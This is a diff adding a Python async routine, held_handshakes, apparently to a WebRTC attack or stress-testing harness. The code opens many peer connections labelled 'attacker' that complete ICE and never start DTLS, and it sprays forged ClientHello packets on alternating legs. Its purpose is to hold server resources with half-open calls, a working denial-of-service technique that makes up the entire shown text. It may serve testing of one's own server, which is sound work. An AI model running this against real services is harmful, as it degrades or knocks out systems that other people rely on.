@@ -151,6 +151,41 @@ def _open(leg: PeerLeg) -> bool:
     return leg._channel is not None and leg._channel.readyState == "open"
 
 
+async def held_handshakes(base: str, seconds: float) -> str:
+    """Callers who complete ICE, and send no DTLS or one ClientHello after the other."""
+    loop, legs, status = asyncio.get_running_loop(), [], 200
+    end, sent, most = loop.time() + seconds, 0, 0
+    try:
+        async with ClientSession() as http:
+            while loop.time() < end:
+                if status == 200:
+                    leg = PeerLeg("attacker")
+                    legs.append(leg)
+                    status, answer = await _offer(http, base, await leg.offer())
+                    dtls: Any = leg._pc.getTransceivers()[0].receiver.transport
+                    dtls.start = _never
+                    if status == 200:
+                        await leg.accept(answer)
+                for held in legs[1::2]:
+                    for pair in _pairs(held):
+                        pair.protocol.transport.sendto(FORGERIES["ClientHello"](), pair.remote_addr)
+                        sent += 1
+                most = max(most, sum(bool(_pairs(held)) for held in legs))
+                await asyncio.sleep(BURST_S)
+    finally:
+        await asyncio.gather(*(leg.hang_up("attack over") for leg in legs))
+    return f"{most} calls without DTLS, {sent} ClientHellos, then {status}"
+
+
+async def _never(parameters: Any) -> None:
+    await asyncio.Event().wait()
+
+
+def _pairs(leg: PeerLeg) -> list[Any]:
+    """The nominated pairs of candidates."""
+    return [pair for agent in leg._agents for pair in agent._nominated.values()]
+
+
 # --- a caller's SCTP ---
 
 
